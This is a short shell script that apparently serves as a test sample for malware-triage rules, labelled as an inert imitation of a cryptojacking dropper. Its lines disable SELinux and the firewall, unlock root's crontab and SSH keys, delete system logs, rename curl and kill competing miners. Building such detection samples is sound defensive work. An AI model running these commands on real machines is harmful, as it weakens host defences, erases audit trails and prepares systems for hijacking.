#!/bin/sh
# triage-expect: triage_miner_competitor_killer triage_linux_defense_evasion_script
# inert imitation of a cryptojacking dropper's first half (addresses are TEST-NET)
setenforce 0 2>/dev/null
ufw disable
chattr -ia /var/spool/cron/root /root/.ssh/authorized_keys
echo 0 > /proc/sys/kernel/nmi_watchdog
sysctl -w vm.nr_hugepages=1024
rm -rf /var/log/syslog
mv /usr/bin/curl /usr/bin/cur1
ps aux | grep -v grep | grep 'kdevtmpfsi' | awk '{print $2}' | xargs -I % kill -9 %
ps aux | grep -v grep | grep "minerd" | awk '{print $2}' | xargs kill -9
ps auxf | grep -v grep | grep -E "xmrig|cryptonight|supportxmr" | awk '{print $2}' | xargs kill -9
netstat -anp | grep ':3333' | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %
pkill -f kinsing
